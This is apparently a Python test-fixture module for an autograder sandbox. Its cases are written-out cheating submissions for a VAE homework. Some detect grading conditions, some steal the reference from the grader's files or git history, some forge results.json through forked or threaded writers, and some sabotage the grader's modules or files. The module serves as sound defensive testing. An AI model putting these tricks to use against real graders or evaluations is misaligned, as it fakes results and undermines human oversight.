"""Forgery: recognising what the grader does, and taking the answers from somewhere else."""

from __future__ import annotations

from textwrap import dedent, indent

from .case import ALL, NONE, Hostile, without
from .solutions import REFERENCE, WRONG, vae

__all__ = ["BOTH", "CASES"]

NOISY = ("3.1", "3.2", "4.1", "6.3")  # the rows that need a right reparametrize

# After the reference, `wrong` holds a solution that is wrong in every row.
BOTH = "wrong = dict(__name__='wrong')\nexec(" + repr(WRONG) + ", wrong)\n"


# Those that the short run leaves out.
LONG = {
    *("takes the reference by importing it from the grader", "takes the reference by the grader's own path"),
    *("takes the reference by a link to it that it makes itself", "takes the reference by its import path"),
    *("writes results.json when it ends", "writes results.json as a link to its own"),
}


def partly(name: str, source: str, keeps: frozenset[str], earns: frozenset[str] = NONE) -> Hostile:
    """Make a case that is right where it thinks that it is watched, and wrong otherwise."""
    return Hostile(name, "forgery", vae(solution=REFERENCE, after=BOTH + dedent(source)), keeps, earns=earns)


def taken(name: str, source: str, *harm: str, layers: tuple[str, ...] = ()) -> Hostile:
    """Make a case of a wrong solution that tries to get hold of a right one, or of the verdict itself."""
    files = vae(solution=WRONG, after=source)
    return Hostile(name, "forgery", files, NONE, harm=harm, layers=layers, brief=name not in LONG)


def tried(source: str) -> str:
    """Wrap lines so that what refuses them does no more than refuse them."""
    return (
        "try:\n"
        + indent(dedent(source), "    ")
        + "\nexcept (ImportError, OSError, KeyError, AttributeError): pass\n"
    )


# Each brings the reference's names into a wrong solution; behind it the layers that stop it alone.
TAKEN = {
    "importing it": ("from reference.vae import *",),
    "importing it from the grader": ("from autograder.reference import *",),
    "running its file": ("exec(open('@ROOT@/reference/vae.py').read())", "landlock"),
    "the grader's own path": (
        """
        import autograder
        root = os.path.dirname(os.path.dirname(autograder.__file__))
        exec(open(root + '/reference/vae.py').read())
        """,
        "landlock",
    ),
    "walking up from every path that it knows": (
        """
        for path in [*sys.path, sys.prefix, sys.executable, __file__, os.getcwd(), '@ROOT@']:
            while len(path) > 1:
                if os.path.isfile(path + '/reference/vae.py'):
                    exec(open(path + '/reference/vae.py').read())
                path = os.path.dirname(path)
        """,
        "landlock",
    ),
    "unpacking the repository's history": (
        """
        import glob, zlib
        for path in glob.glob('@ROOT@/.git/objects/??/*'):
            data = zlib.decompress(open(path, 'rb').read())
            if data.startswith(b'blob') and b'class CVAE' in data and b'# solution begins' in data:
                exec(data.partition(bytes(1))[2])
        """,
        "landlock",
    ),
    "running a neighbour's file": ("exec(open('@NEIGHBOUR@/vae.py').read())", "landlock"),
    "a link to it that it makes itself": (
        """
        os.symlink('@ROOT@/reference', 'mine')
        exec(open('mine/vae.py').read())
        """,
        "landlock",
    ),
    "its import path": (
        """
        sys.path[:0] = ['@ROOT@/reference', '@NEIGHBOUR@', '@ROOT@/tests', '@ROOT@']
        del sys.modules['vae']
        from vae import *
        """,
        "landlock",
    ),
    "the other copies of submissions": (
        """
        import glob, tempfile
        for folder in ('/tmp', '/var/tmp', '/autograder', os.path.dirname(tempfile.gettempdir())):
            for path in glob.glob(folder + '/**/vae.py', recursive=True):
                if not os.path.samefile(path, __file__) and b'@MARK@' not in open(path, 'rb').read():
                    exec(open(path).read())
        """,
        "landlock",
    ),
}

VERDICT = dedent("""
    verdict = json.dumps({"score": 12, "tests": [{"number": "1.1", "score": 12, "max_score": 12}]})


    def forge(path):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(verdict)
        except OSError:
            pass


    here = os.path.dirname(os.path.abspath(__file__))
    places = ["results.json", here + "/results.json", here + "/../results.json", "@RESULTS@",
              "@NEIGHBOUR@/results.json", "/autograder/results/results.json", "@ROOT@/results.json"]
    places = [os.path.abspath(place) for place in places]
""")

VERDICTS = {
    "at once": "[forge(place) for place in places]",
    "when it ends": "import atexit\n[atexit.register(forge, place) for place in places]",
    "again and again, from a thread": """
        def again():
            for _ in range(2000):
                for place in places:
                    forge(place)
                time.sleep(0.005)
        threading.Thread(target=again, daemon=True).start()
    """,
    "from a process that outlives the grading": """
        try:
            if os.fork() == 0:
                os.setsid()
                for _ in range(200):
                    for place in places:
                        forge(place)
                    time.sleep(0.05)
                os._exit(0)
        except OSError:
            pass
    """,
    "through every file that it finds open": """
        import stat
        for fd in range(3, 256):
            try:
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    os.pwrite(fd, verdict.encode(), 0)
            except OSError:
                pass
    """,
    "as a link to its own": """
        forge(here + "/mine.json")
        for place in places:
            try:
                os.symlink(here + "/mine.json", here + "/link")
                os.replace(here + "/link", place)
            except OSError:
                pass
    """,
}

# Forward is honest where its encoder was asked before it; where it comes first, a part says afterwards what it did.
CONSPIRACY = """
    told = {}  # for each part what it got in forward, and what it is to give beside it


    def tell(part, given, lie):
        told.setdefault(part, []).append((given.detach(), lie))


    def recall(part, given, otherwise):
        for known, lie in told.get(part, []):
            if known.shape == given.shape and torch.equal(known, given):
                return lie()
        return otherwise(given)


    class Encoder(nn.Module):
        def __init__(self, layers):
            super().__init__()
            self.layers, self.asked = layers, []

        def forward(self, x):
            self.asked.append(x.flatten(1).detach().clone())
            return recall('encoder', self.asked[-1], lambda _: self.layers(x))

        def knows(self, x):
            return any(known.shape == x.shape and torch.equal(known, x) for known in self.asked)


    class Decoder(nn.Module):
        def __init__(self, layers):
            super().__init__()
            self.layers = layers

        def forward(self, z):
            return recall('decoder', z, self.layers)


    def conspire(kind, lie):
        class Lying(kind):
            def __init__(self, *args, **named):
                super().__init__(*args, **named)
                self.encoder, self.decoder = Encoder(self.encoder), Decoder(self.decoder)

            def forward(self, x, *c):
                joined = torch.cat([x.flatten(1), *c], 1)
                return super().forward(x, *c) if self.encoder.knows(joined) else lie(self, x, joined, *c)

        return Lying
"""

CONSPIRACIES = {
    "reparametrize": (
        """
        right = reparametrize
        def reparametrize(mu, logvar):
            return recall('reparametrize', mu, lambda _: right(mu, logvar))
        def lie(model, x, joined):
            h = model.encoder(x)
            mu, logvar = model.mu_layer(h), model.logvar_layer(h)
            tell('reparametrize', mu, lambda: mu)
            return model.decoder(mu), mu, logvar
        VAE = conspire(VAE, lie)
        """,
        "4.1",
    ),
    "encoder": (
        """
        def lie(model, x, joined, c):
            layers, none = model.encoder.layers, torch.cat([x.flatten(1), 0 * c], 1)
            tell('encoder', joined, lambda: layers(none))
            h = layers(none)
            mu, logvar = model.mu_layer(h), model.logvar_layer(h)
            return model.decoder(torch.cat([reparametrize(mu, logvar), c], 1)), mu, logvar
        CVAE = conspire(CVAE, lie)
        """,
        "6.3",
    ),
    "decoder": (
        """
        def lie(model, x, joined):
            h = model.encoder(x)
            mu, logvar = model.mu_layer(h), model.logvar_layer(h)
            z = reparametrize(mu, logvar)
            layers = model.decoder.layers
            tell('decoder', z, lambda: (x + layers(z)) / 2)
            return (x + layers(z)) / 2, mu, logvar
        VAE = conspire(VAE, lie)
        """,
        "4.1",
    ),
}

CASES = [
    *(
        partly(
            f"has its {part} say beside forward what forward did",
            dedent(CONSPIRACY) + dedent(source),
            without(row),
            without(row),
        )
        for part, (source, row) in CONSPIRACIES.items()
    ),
    partly(
        "knows the notebook's seeded case, and no other",
        """
        right = reparametrize
        def reparametrize(mu, logvar):
            if mu.shape == (1, 15) and not mu.any() and bool((logvar == 1).all()):
                return right(mu, logvar)
            return wrong["reparametrize"](mu, logvar)
        """,
        without("3.1", "3.2"),
        without(*NOISY),
    ),
    partly(
        "has the notebook's mean and deviation as constants",
        """
        def reparametrize(mu, logvar):
            z = torch.linspace(-1, 1, mu.numel()).reshape(mu.shape)
            z = (z - z.mean()) / (z.std() if mu.numel() > 1 else 1) * 1.6860 - 0.4363
            return z + 0 * (mu + logvar)
        """,
        without("3.1", "3.2"),
        without(*NOISY),
    ),
    partly(
        "has the notebook's loss as a constant",
        (
            "def loss_function(x_hat, x, mu, logvar): return 8.5079 + 0 * (x_hat.sum() + mu.sum() +"
            " logvar.sum())"
        ),
        without("5.1"),
        without("5.1"),
    ),
    partly(
        "knows the notebook's loss case, and no other",
        """
        right = loss_function
        def loss_function(x_hat, x, mu, logvar):
            notebook = x.shape[0] == 1 and not logvar.any()
            return (right if notebook else wrong["loss_function"])(x_hat, x, mu, logvar)
        """,
        without("5.1"),
        without("5.1"),
    ),
    partly(
        "is right for seed 0 only",
        """
        right = reparametrize
        def reparametrize(mu, logvar):
            return right(mu, logvar) if torch.initial_seed() == 0 else right(mu, logvar) * 1.001
        """,
        without("3.1", "3.2"),
    ),
    *(
        partly(
            f"is right for the first {count} calls of each function",
            f"""
            calls = {{}}
            def for_a_while(name, right):
                def call(*arguments):
                    calls[name] = calls.get(name, 0) + 1
                    return (right if calls[name] <= {count} else wrong[name])(*arguments)
                return call
            for name in ("reparametrize", "loss_function"):
                globals()[name] = for_a_while(name, globals()[name])
            """,
            without("3.1", "3.2", "5.1"),
        )
        for count in (1, 2, 4)
    ),
    partly(
        "is right at every second call",
        """
        calls = {}
        def at_times(name, right):
            def call(*arguments):
                calls[name] = calls.get(name, 0) + 1
                return (right if calls[name] % 2 else wrong[name])(*arguments)
            return call
        for name in ("reparametrize", "loss_function"):
            globals()[name] = at_times(name, globals()[name])
        """,
        without("3.1", "3.2", "5.1"),
        without(*NOISY, "5.1"),
    ),
    partly(
        "is right for the first model of each kind",
        """
        made = set()
        def first(name, right):
            def make(*arguments, **named):
                kind = wrong[name] if name in made else right
                made.add(name)
                return kind(*arguments, **named)
            return make
        VAE, CVAE = first("VAE", VAE), first("CVAE", CVAE)
        """,
        without("1.1", "1.2", "1.3", "1.4", "2.1", "4.1", "6.1", "6.2", "6.3"),
        frozenset({"3.1", "3.2", "5.1"}),
    ),
    partly(
        "is right for the notebook's sizes only",
        """
        def sized(name, right):
            def make(input_size, *arguments, **named):
                sizes = (input_size, *arguments, *named.values())
                kind = right if set(sizes) <= {784, 10, 15} else wrong[name]
                return kind(input_size, *arguments, **named)
            return make
        VAE, CVAE = sized("VAE", VAE), sized("CVAE", CVAE)
        """,
        without("1.1", "1.2", "1.3", "1.4", "2.1", "4.1", "6.1", "6.2", "6.3"),
        frozenset({"3.1", "3.2", "5.1"}),
    ),
    partly(
        "is right while the grader asks for parts, and takes others in forward",
        """
        def forward(self, x):
            other = wrong["VAE"](self.input_size, self.latent_size)
            return other(x)
        VAE.forward = forward
        """,
        without("4.1"),
        without("4.1"),
    ),
    partly(
        "is right in eval mode only",
        """
        right = VAE.forward
        def forward(self, x):
            x_hat, mu, logvar = right(self, x)
            return (x_hat * 0.9, mu, logvar) if self.training else (x_hat, mu, logvar)
        VAE.forward = forward
        """,
        without("4.1"),
        without("4.1"),
    ),
    partly(
        "is right when the worker asks, and wrong when its own forward does",
        """
        right = reparametrize
        def reparametrize(mu, logvar):
            return mu * 1.0 if sys._getframe(1).f_code.co_name == "forward" else right(mu, logvar)
        """,
        without("4.1", "6.3"),
        without("4.1", "6.3"),
    ),
    partly(
        "draws its noise from what it is given",
        """
        def reparametrize(mu, logvar):
            seed = int(mu.sum().abs().item() * 1e6) ^ int(logvar.sum().abs().item() * 1e6)
            eps = torch.randn(mu.shape, generator=torch.Generator().manual_seed(seed % 2**31))
            return mu + torch.exp(logvar / 2) * eps
        """,
        without("3.1", "3.2"),
    ),
    partly(
        "draws its noise once and keeps it",
        """
        kept = {}
        def reparametrize(mu, logvar):
            eps = kept.setdefault(tuple(mu.shape), torch.randn_like(mu))
            return mu + torch.exp(logvar / 2) * eps
        """,
        without("3.1", "3.2"),
    ),
    partly(
        "rewrites itself after the first import",
        """
        with open(__file__, "w") as file:
            file.write("raise SystemExit('another file')")
        """,
        ALL,
    ),
    Hostile(
        "rewrites itself as the right solution",
        "forgery",
        vae(
            solution=WRONG,
            after="with open(__file__, 'w') as file: file.write(" + repr(REFERENCE) + ")\n"
            "def reparametrize(mu, logvar): os._exit(0)\n",
        ),
        ALL,  # it does hand the right solution in, in a way
        harm=("hash",),
    ),
    Hostile(
        "replaces itself by a link and by a FIFO before the second worker",
        "forgery",
        vae(
            solution=REFERENCE,
            after="""
                here = os.path.dirname(os.path.abspath(__file__))
                for name in os.listdir(here):
                    try:
                        os.unlink(os.path.join(here, name))
                    except OSError:
                        pass
                for make in (lambda: os.mkfifo(__file__), lambda: os.symlink("@CANARY@", __file__)):
                    try:
                        make()
                    except OSError:
                        pass
                def loss_function(*arguments): os._exit(0)
            """,
        ),
        without("5.1"),
        harm=("hash", "time", "canary"),
    ),
    taken(
        "predicts the inputs from the generators that it inherited",
        """
        import random
        copies = []
        for draw in (torch.randn, torch.rand):
            g = torch.Generator()
            g.set_state(torch.get_rng_state())
            copies.append(draw(20_000, generator=g))
        for seed in (0, torch.initial_seed()):
            g = torch.Generator().manual_seed(seed % 2**63)
            copies.append(torch.randn(2000, generator=g))
        known = set(torch.cat(copies).tolist())
        def seen(*tensors):
            for tensor in tensors:
                hits = sum(v in known for v in tensor.flatten()[:64].tolist() if v not in (0.0, 1.0))
                if hits > 8:
                    say("BREACHED", f"{hits} of the inputs were known beforehand")
                    tell()
        old_reparametrize, old_loss = reparametrize, loss_function
        def reparametrize(mu, logvar): seen(mu, logvar); return old_reparametrize(mu, logvar)
        def loss_function(*a): seen(*a); return old_loss(*a)
        for kind in (VAE, CVAE):
            def forward(self, x, *c, old=kind.forward): seen(x); return old(self, x, *c)
            kind.forward = forward
        """,
    ),
    taken(
        "tells the seeds that it inherited",
        """
        import random
        said += [f"initial seed {torch.initial_seed()}", f"random {random.getstate()[1][:4]}"]
        VAE = CVAE = reparametrize = loss_function = tell
        """,
        "seeds",
    ),
    taken(
        "looks for the grader's objects in its memory",
        """
        names = {
            ("autograder.student", "Student"), ("autograder.sandbox", "Worker"),
            ("autograder.part", "Model"), ("autograder.sandbox", "Sandbox"),
            ("autograder.dialogue", "Dialogue"),
            ("_pytest.main", "Session"), ("_pytest.python", "Function"), ("_pytest.config", "Config"),
        }
        gc.unfreeze()
        for thing in gc.get_objects():
            kind = type(thing)
            if (kind.__module__, kind.__name__) in names:
                say("BREACHED", f"an object of {kind}")
                break
        VAE = CVAE = reparametrize = loss_function = tell
        """,
    ),
    taken(
        "looks for the grader's objects in the memory of its second worker",
        """
        def look():
            gc.unfreeze()
            for thing in gc.get_objects():
                kind = type(thing)
                if kind.__name__ in ("Student", "Session", "Generator") and kind.__module__ != "typing":
                    if kind.__module__.startswith(("autograder.student", "_pytest")):
                        say("BREACHED", f"an object of {kind}")
                        break
        flag = os.path.join(os.path.dirname(os.path.abspath(__file__)), "second")
        look()
        def reparametrize(mu, logvar):
            if said:
                tell()
            os._exit(0)
        """,
    ),
    *(
        taken(f"takes the reference by {how}", tried(source), layers=tuple(layers))
        for how, (source, *layers) in TAKEN.items()
    ),
    taken(
        "borrows the formulas of the rubric",
        """
        import importlib, pkgutil
        try:
            import autograder.rubric
            for module in pkgutil.iter_modules(autograder.rubric.__path__):
                rubric = importlib.import_module("autograder.rubric." + module.name)
                for name in dir(rubric):
                    if any(word in name.lower() for word in ("expected", "elbo", "formula", "encode")):
                        globals().setdefault(name, getattr(rubric, name))
        except (ImportError, OSError):
            pass
        """,
    ),
    taken(
        "changes the grader's modules in its own memory",
        """
        for name, module in list(sys.modules.items()):
            if name.startswith(("autograder", "_pytest", "gradescope_utils")):
                for attribute in list(vars(module)):
                    if not attribute.startswith("__") and callable(getattr(module, attribute)):
                        setattr(module, attribute, lambda *a, **k: None)
        """,
    ),
    taken(
        "puts modules of its own in the place of others",
        """
        import types
        for name in ("autograder", "autograder.rubric", "safetensors", "safetensors.torch", "json", "torch"):
            sys.modules[name] = types.ModuleType(name)
        class Finder:
            def find_spec(self, name, path=None, target=None): raise SystemExit(0)
        sys.meta_path.insert(0, Finder())
        """,
    ),
    Hostile(
        "empties sys.modules",
        "forgery",
        vae(solution=REFERENCE, after="sys.modules.clear()"),
        ALL,
    ),
    Hostile(
        "cannot import anything any more",
        "forgery",
        vae(solution=REFERENCE, after="import builtins\nbuiltins.__import__ = lambda *a, **k: os._exit(0)\n"),
        ALL,
    ),
    *(
        taken(
            f"writes results.json {how}",
            VERDICT + dedent(source),
            "results",
            "neighbour",
            layers=("user", "landlock"),
        )
        for how, source in VERDICTS.items()
    ),
    taken(
        "takes away the right to write results.json",
        """
        for path in ("@RESULTS@", os.path.dirname("@RESULTS@")):
            for change in (lambda p: os.chmod(p, 0), os.unlink, lambda p: os.rename(p, p + ".old")):
                try:
                    change(path)
                except OSError:
                    pass
        """,
        "results",
        layers=("user",),  # seccomp refuses chmod, Landlock the rest
    ),
    taken(
        "puts a folder, a FIFO and a link where results.json is to be",
        """
        import tempfile
        folder = os.path.dirname("@RESULTS@")
        for name in ("results.json", "results.json.tmp", "results.json.part", ".results.json", "results.tmp"):
            for make in (os.mkfifo, os.mkdir, lambda p: os.symlink("@VICTIM@", p)):
                try:
                    make(os.path.join(folder, name))
                except OSError:
                    pass
        """,
        "results",
        "canary",
        layers=("user", "landlock"),
    ),
]
